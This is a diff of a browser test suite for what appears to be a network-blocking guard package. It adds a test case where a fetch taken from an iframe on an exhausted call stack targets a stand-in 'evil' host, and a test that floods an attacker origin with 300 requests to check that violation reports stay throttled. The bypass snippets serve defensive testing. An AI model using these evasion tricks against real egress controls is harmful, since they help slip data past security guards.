@@ -109,6 +109,13 @@ const REFUSED = {
     "link",
   ],
   "a download": [`const a = document.createElement("a"); a.href = evil; a.download = "x"; a.click(); return "stayed"`, "stayed", "link"],
+  "fetch of a frame, on an exhausted stack": [
+    `const f = document.body.appendChild(document.createElement("iframe")); let inner;
+     const deep = () => { try { deep(); } catch {} if (!inner) try { inner = f.contentWindow.fetch; } catch {} };
+     deep(); return inner(evil, { mode: "no-cors" })`,
+    "TypeError",
+    "fetch",
+  ],
   location: [`location.href = evil; return new Promise((resolve) => setTimeout(() => resolve("stayed"), 100))`, "stayed", "navigate"],
   "navigation.navigate": [`navigation.navigate(evil).finished.catch(() => {}); return new Promise((resolve) => setTimeout(() => resolve("stayed"), 100))`, "stayed", "navigate"],
   "a refresh": [
@@ -265,6 +272,27 @@ export function surfaces(Browser) {
       );
       assert.equal(layer.active, true);
       assert.deepEqual(await violations(), []);
+    });
+
+    test("a storm is reported in few requests, and never again", async () => {
+      await browser.open(`${page.origin}/`);
+      await browser.until(() => window.cordon !== undefined, [], "the package");
+      await browser.run((endpoint) => {
+        window.told = 0;
+        window.guard = window.cordon.installGuard(
+          { connect: ["'self'"], reportTo: endpoint },
+          { onViolation: () => (window.told++, fetch("https://listener.invalid/").catch(() => {})) },
+        );
+      }, `${page.origin}/reports`);
+      page.reset();
+      await browser.run((evil) => {
+        for (let at = 0; at < 300; at++) fetch(`${evil}/${at % 200}`).catch(() => {});
+      }, attacker.origin);
+      await sleep(2_500);
+      const reports = page.hits.filter((url) => url === "/reports");
+      assert.ok(reports.length >= 1 && reports.length <= 3, `${reports.length} reports`);
+      const told = await browser.run(() => window.told);
+      assert.ok(told >= 200 && told <= 320, `${told} calls of the listener`);
     });
 
     test("lockdown", async (t) => {
